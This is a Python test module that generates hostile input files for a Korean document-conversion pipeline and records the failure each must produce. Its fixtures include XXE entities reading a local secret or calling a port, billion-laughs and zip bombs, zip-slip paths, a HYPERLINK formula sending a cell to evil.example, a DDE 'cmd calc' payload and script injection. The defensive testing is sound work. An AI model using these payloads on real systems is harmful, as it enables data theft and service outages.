"""The hostile corpus: every bad input the issue names, built at test time, with the behaviour each
must get from the pipeline.

:func:`build_corpus` writes the generated entries into a folder and returns name -> path; entries
that are real files of the shared corpus are referenced in place (:data:`SHARED_ENTRIES`), never
copied. :data:`EXPECT` says, per entry, the ``files.jsonl`` status, the acceptable error codes and
words the one-line reason must hold. Good cards (the real seed text, the seed rendered to HWPX by
:func:`render_seed`, and seed variants with hostile strings from :func:`seed_with`) go beside the
bad ones in the same batch and must still convert in full. Builders: :mod:`hostile.pdfgen` (PDFs
written object by object) and :mod:`hostile.zipgen` (zips written byte by byte, bombs included).
"""

from __future__ import annotations

import io
import random
import re
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache
from pathlib import Path
from typing import Any

from hostile.pdfgen import cyclic_pdf, encrypt_pdf, scan_pdf, text_pdf
from hostile.zipgen import RawEntry, entry, hwpx, section_xml, zero_bomb

REPO = Path(__file__).resolve().parents[2]
SHARED = REPO.parent / "shared"
SEED_TXT = SHARED / "seeds" / "gangwon-2-20-2024Q4.txt"
SEED_EXPECTED = SHARED / "spec" / "seed.expected.json"
PUBLIC_HWP = SHARED / "corpus" / "public-hwp"

# Hostile strings planted in a real card's text: spreadsheet formulas, markup, a path as 관리번호.
FORMULA_TITLE = '=HYPERLINK("http://evil.example/?q="&A1,"클릭") 대학 학과 신설'
DDE_DEPT = "@SUM(1+1)*cmd|' /C calc'!A0"
SCRIPT = '<script>alert("pwn")</script><img src=x onerror=alert(1)>'
PATH_MGMT_NO = "../../x"
LONG_MGMT_NO = "가나다라마바사아자차" * 10  # 100 Hangul letters: 300 bytes in UTF-8

HOSTILE_NAME = "=1+1<b>bold<b>.txt"  # a good card under a formula-and-markup file name

SECRET_TOKEN = "TOP-SECRET-7f3a9c"  # in a local file an external entity points at


@dataclass(frozen=True, slots=True)
class Expect:
    """What ``files.jsonl`` must say about one entry."""

    status: tuple[str, ...]  # acceptable statuses: ok | no_card | failed
    codes: tuple[str, ...] = ()  # acceptable error codes (empty for ok)
    words: tuple[str, ...] = ()  # each must occur (case-insensitive) in the reason


EXPECT: dict[str, Expect] = {
    "empty.txt": Expect(("failed", "no_card"), ("empty", "damaged", "no_card"), ("empty",)),
    "empty.pdf": Expect(("failed", "no_card"), ("empty", "damaged", "no_card"), ("empty",)),
    "truncated.pdf": Expect(("failed",), ("damaged",), ("pdf",)),
    "password.pdf": Expect(("failed",), ("encrypted",), ("password",)),
    "owner-password.pdf": Expect(("no_card",), ("no_card",), ("no card",)),  # opens without a password
    "cyclic-pages.pdf": Expect(("no_card",), ("no_card",), ("no card",)),
    "scan.pdf": Expect(("failed",), ("no_text_layer",), ("no text layer", "ocr")),  # OCR finds no letter
    "pages-500.pdf": Expect(("failed",), ("limit_exceeded",), ("500", "page")),
    "password.hwp": Expect(("failed",), ("encrypted",), ("password",)),
    "distribution.hwp": Expect(("no_card",), ("no_card",), ("no card",)),
    "distribution-viewtext.hwp": Expect(("no_card",), ("no_card",), ("no card",)),
    "ole-junk.hwp": Expect(("failed",), ("damaged",), ("ole2",)),
    "ole-truncated.hwp": Expect(("failed",), ("damaged",), ()),
    "ole-bad-fat.hwp": Expect(("failed",), ("damaged",), ()),
    "zip-bomb.hwpx": Expect(("failed",), ("limit_exceeded",), ("limit",)),
    "zip-bomb-lying-header.hwpx": Expect(("failed",), ("damaged", "limit_exceeded"), ()),
    "xxe-file.hwpx": Expect(("failed",), ("damaged",), ("entit",)),
    "xxe-network.hwpx": Expect(("failed",), ("damaged",), ("entit",)),
    "xxe-utf16.hwpx": Expect(("failed",), ("damaged",), ("entit",)),
    "external-dtd.hwpx": Expect(("no_card",), ("no_card",), ("no card",)),
    "deep-xml.hwpx": Expect(("failed",), ("damaged",), ("xml",)),
    "billion-laughs.hwpx": Expect(("failed",), ("damaged",), ("entit",)),
    "dotdot-entries.hwpx": Expect(("ok",)),
    "zip-bad-offsets.hwpx": Expect(("failed",), ("damaged",), ("zip",)),
    "junk.txt": Expect(("failed",), ("damaged",), ("binary",)),
    "no-card.hwpx": Expect(("no_card",), ("no_card",), ("no card",)),
    "no-card.txt": Expect(("no_card",), ("no_card",), ("no card",)),
    "hostile-text.txt": Expect(("ok",)),
    HOSTILE_NAME: Expect(("ok",)),
    "long-mgmt-no.txt": Expect(("ok",)),  # its card file name must still fit in 255 bytes
}

# Entries converted in a batch of their own beside a good card (tests/test_hostile.py), so that a
# runner that stops on one of them cannot hide the results of the others.
ALONE = ("zip-bad-offsets.hwpx", "long-mgmt-no.txt")

# Entries that are real public documents in ../shared/corpus, referenced where they are.
SHARED_ENTRIES: dict[str, Path] = {
    "password.hwp": PUBLIC_HWP / "pyhwp__password-12345.hwp",
    "distribution.hwp": PUBLIC_HWP / "hwplib__distribution.hwp",
    "distribution-viewtext.hwp": PUBLIC_HWP / "pyhwp__viewtext.hwp",
    "no-card.hwpx": PUBLIC_HWP / "hwpxlib__mcst-press-release.hwpx",
}


# -- good files ------------------------------------------------------------------------------


def seed_text() -> str:
    return SEED_TXT.read_text(encoding="utf-8")


def render_seed(fmt: str, folder: Path) -> Path:
    """The real seed record rendered by the sample generator as ``hwpx`` or ``hwp``."""
    from samples.render_hwpx import save

    path = folder / f"seed-card.{fmt}"
    save(_seed_document(), path)  # python-hwpx writes HWP 5 for a .hwp name
    return path


@cache
def _seed_document() -> Any:
    import json

    from samples.render_hwpx import build_document
    from samples.style import SEED_STYLE

    return build_document([json.loads(SEED_EXPECTED.read_text(encoding="utf-8"))], style=SEED_STYLE)


# -- PDFs ------------------------------------------------------------------------------------


def small_text_pdf() -> bytes:
    return text_pdf([["Pledge card archive", "quarterly report"], ["second page", "more text"]])


def truncated_pdf() -> bytes:
    data = small_text_pdf()
    return data[: len(data) * 2 // 3]


def pages_pdf(n: int) -> bytes:
    """``n`` pages, each with its own short text (no running header to drop)."""
    return text_pdf([[f"Section {i} of the archive", f"entry {i * 7919 % 1000:03d}"] for i in range(n)])


# -- HWP (OLE2) ------------------------------------------------------------------------------

OLE2_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def ole_junk() -> bytes:
    """The OLE2 signature followed by noise."""
    rnd = random.Random(6)
    return OLE2_MAGIC + bytes(rnd.randrange(256) for _ in range(4096 - len(OLE2_MAGIC)))


def ole_truncated(hwp: bytes) -> bytes:
    return hwp[: len(hwp) // 2]


def ole_bad_fat(hwp: bytes) -> bytes:
    """The first FAT sector (named by the header's DIFAT) overwritten with noise."""
    data = bytearray(hwp)
    shift = int.from_bytes(data[30:32], "little")
    sector = int.from_bytes(data[76:80], "little")
    size = 1 << shift
    start = (sector + 1) * size
    rnd = random.Random(7)
    data[start : start + size] = bytes(rnd.randrange(256) for _ in range(size))
    return bytes(data)


# -- HWPX ------------------------------------------------------------------------------------


def zip_bomb() -> bytes:
    """2 MB on disk, 2 GiB of zeros declared and actually inflatable in Contents/section0.xml."""
    return hwpx([zero_bomb("Contents/section0.xml", 2 << 30)])


def zip_bomb_lying_header() -> bytes:
    """The same 2 GiB stream, but the headers claim 1,000 bytes."""
    return hwpx([zero_bomb("Contents/section0.xml", 2 << 30, declared=1000)])


def zip_bomb_many_entries(n: int = 320, size: int = 900_000) -> bytes:
    """``n`` valid sections of ``size`` bytes each (under any per-entry ratio floor), together more
    than the default unpacked limit: only a budget shared by all entries stops it."""
    body = section_xml(["x"])
    sec = entry("Contents/section0.xml", body[:-9] + b" " * (size - len(body)) + body[-9:])
    return hwpx([RawEntry(f"Contents/section{i}.xml", sec.data, sec.crc, sec.size) for i in range(n)])


def xxe_file(secret: Path) -> bytes:
    prolog = f'<!DOCTYPE hs:sec [<!ENTITY xxe SYSTEM "{secret.resolve().as_uri()}">]>'
    return hwpx([section_xml(["도지사 공약사업 관리카드", "공 약 명 &xxe; 관리번호 1-1"], prolog=prolog)])


def xxe_network(port: int) -> bytes:
    prolog = (
        f'<!DOCTYPE hs:sec SYSTEM "http://127.0.0.1:{port}/card.dtd" '
        f'[<!ENTITY xxe SYSTEM "http://127.0.0.1:{port}/leak">]>'
    )
    return hwpx([section_xml(["도지사 공약사업 관리카드", "공 약 명 &xxe; 관리번호 1-1"], prolog=prolog)])


def xxe_utf16(secret: Path) -> bytes:
    """The file entity again, in a UTF-16 document: a byte search for ``<!ENTITY`` misses it."""
    prolog = f'<!DOCTYPE hs:sec [<!ENTITY xxe SYSTEM "{secret.resolve().as_uri()}">]>'
    xml = section_xml(["도지사 공약사업 관리카드", "공 약 명 &xxe; 관리번호 1-1"], prolog=prolog).decode()
    xml = xml.replace('encoding="UTF-8"', 'encoding="UTF-16"')
    return hwpx([xml.encode("utf-16")])


def external_dtd(port: int) -> bytes:
    """A DOCTYPE naming an external DTD (no entities): readable, but the DTD must not be fetched."""
    prolog = f'<!DOCTYPE hs:sec SYSTEM "http://127.0.0.1:{port}/owpml.dtd">'
    return hwpx([section_xml(["보도자료", "행사 안내"], prolog=prolog)])


def deep_xml(depth: int = 5000) -> bytes:
    """A body section nested ``depth`` elements deep (beyond any sane parser's depth limit)."""
    body = section_xml(["x"])
    inner = b"<hp:p>" * depth + b"x" + b"</hp:p>" * depth
    return hwpx([body[:-9] + inner + body[-9:]])


def billion_laughs() -> bytes:
    defs = ['<!ENTITY a "lollollollol">']
    defs += [f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9)]
    prolog = "<!DOCTYPE hs:sec [" + "".join(defs) + "]>"
    return hwpx([section_xml(["&j;"], prolog=prolog)])


def zip_bad_offsets() -> bytes:
    """A small HWPX whose end record places the central directory one byte later than it is:
    every member's local header offset resolves to before the start of the file."""
    data = bytearray(hwpx([section_xml(["보도자료"])]))
    eocd = data.rindex(b"PK\x05\x06")
    offset = int.from_bytes(data[eocd + 16 : eocd + 20], "little")
    data[eocd + 16 : eocd + 20] = (offset + 1).to_bytes(4, "little")
    return bytes(data)


DOTDOT_NAMES = (
    "../../evil.txt",
    "../escaped/section0.xml",
    "/tmp/absolute-evil.txt",
    "C:/evil.txt",
    "Contents/../../section9.xml",
)


def with_dotdot_entries(good_hwpx: bytes) -> bytes:
    """A good HWPX card with extra members whose names climb out of any folder."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(good_hwpx)) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            dst.writestr(info, src.read(info))
        for name in DOTDOT_NAMES:
            dst.writestr(
                zipfile.ZipInfo(name),
                section_xml(["EVIL ENTRY 공 약 명 악성 관리번호 9-9"]),
                compress_type=zipfile.ZIP_DEFLATED,
            )
    return out.getvalue()


# -- text ------------------------------------------------------------------------------------


def junk() -> bytes:
    rnd = random.Random(11)
    return bytes(rnd.randrange(256) for _ in range(20_000))


NO_CARD_TEXT = (
    "보도자료\n\n2024년 지역 축제 일정 안내\n\n"
    "◦ 일시 : 2024. 10. 3. ~ 10. 5.\n◦ 장소 : 시청 앞 광장\n"
    "- 문의 : 문화관광과 (033-123-4567)\n"
)


_NAME_LINE = re.compile(r"^(공\s*약\s*명)\s+(.*?)\s+(관리\s*번호)\s+\S+\s*$")
_DEPT_LINE = re.compile(r"^((?:추진|주관)\s*부서)\s+\S.*$")


def seed_with(
    *,
    title: str | None = None,
    mgmt_no: str | None = None,
    dept: str | None = None,
    bullet_prefix: str | None = None,
) -> str:
    """The real seed card's text with its 공약명, 관리번호, 추진부서 or first dated achievement
    changed. The lines are found by their labels, not by the seed's values."""
    lines = seed_text().split("\n")
    for i, line in enumerate(lines):
        if m := _NAME_LINE.match(line):
            lines[i] = f"{m.group(1)} {title or m.group(2)} {m.group(3)} {mgmt_no or line.split()[-1]}"
        elif dept is not None and (m := _DEPT_LINE.match(line)):
            lines[i] = f"{m.group(1)} {dept}"
    if bullet_prefix is not None:
        k = next(
            i for i, line in enumerate(lines) if line.startswith("◦ ") and re.search(r":\s*['’]\d\d", line)
        )
        lines[k] = lines[k].replace("◦ ", f"◦ {bullet_prefix} ", 1)
    out = "\n".join(lines)
    for planted in (title, mgmt_no, dept, bullet_prefix):
        if planted is not None and planted not in out:
            raise AssertionError(f"the seed text changed shape: could not plant {planted!r}")
    return out


def hostile_card_text() -> str:
    """The seed card with a formula as 공약명, a DDE payload as 추진부서, markup in an achievement
    and a path as 관리번호."""
    return seed_with(title=FORMULA_TITLE, mgmt_no=PATH_MGMT_NO, dept=DDE_DEPT, bullet_prefix=SCRIPT)


# -- the corpus ------------------------------------------------------------------------------


def build_corpus(folder: Path, *, secret: Path, port: int) -> dict[str, Path]:
    """Write every generated entry into ``folder`` (those of :data:`ALONE` into ``<folder>-alone``)
    and return name -> path for all entries (shared ones point into ../shared). ``secret`` is the
    file an external entity names, ``port`` a local port that must never see a connection."""
    folder.mkdir(parents=True, exist_ok=True)
    scratch = folder.parent / f".{folder.name}-scratch"
    scratch.mkdir(exist_ok=True)
    good_hwp = render_seed("hwp", scratch).read_bytes()
    good_hwpx = render_seed("hwpx", scratch).read_bytes()
    makers: dict[str, Callable[[], bytes]] = {
        "empty.txt": lambda: b"",
        "empty.pdf": lambda: b"",
        "truncated.pdf": truncated_pdf,
        "password.pdf": lambda: encrypt_pdf(small_text_pdf(), user_password="12345"),
        "owner-password.pdf": lambda: encrypt_pdf(small_text_pdf(), user_password=""),
        "cyclic-pages.pdf": cyclic_pdf,
        "scan.pdf": scan_pdf,
        "pages-500.pdf": lambda: pages_pdf(500),
        "ole-junk.hwp": ole_junk,
        "ole-truncated.hwp": lambda: ole_truncated(good_hwp),
        "ole-bad-fat.hwp": lambda: ole_bad_fat(good_hwp),
        "zip-bomb.hwpx": zip_bomb,
        "zip-bomb-lying-header.hwpx": zip_bomb_lying_header,
        "xxe-file.hwpx": lambda: xxe_file(secret),
        "xxe-network.hwpx": lambda: xxe_network(port),
        "xxe-utf16.hwpx": lambda: xxe_utf16(secret),
        "external-dtd.hwpx": lambda: external_dtd(port),
        "deep-xml.hwpx": deep_xml,
        "billion-laughs.hwpx": billion_laughs,
        "dotdot-entries.hwpx": lambda: with_dotdot_entries(good_hwpx),
        "zip-bad-offsets.hwpx": zip_bad_offsets,
        "junk.txt": junk,
        "no-card.txt": lambda: NO_CARD_TEXT.encode("utf-8"),
        "hostile-text.txt": lambda: hostile_card_text().encode("utf-8"),
        "long-mgmt-no.txt": lambda: seed_with(mgmt_no=LONG_MGMT_NO).encode("utf-8"),
        HOSTILE_NAME: lambda: seed_with(mgmt_no="9-99").encode("utf-8"),  # its own card_id
    }
    paths: dict[str, Path] = {}
    alone = folder.parent / f"{folder.name}-alone"
    alone.mkdir(exist_ok=True)
    for name, make in makers.items():
        path = (alone if name in ALONE else folder) / name
        path.write_bytes(make())
        paths[name] = path
    paths.update(SHARED_ENTRIES)
    missing = set(EXPECT) - set(paths)
    if missing:  # pragma: no cover - keeps EXPECT and the makers in step
        raise AssertionError(f"corpus entries without a maker: {sorted(missing)}")
    return paths
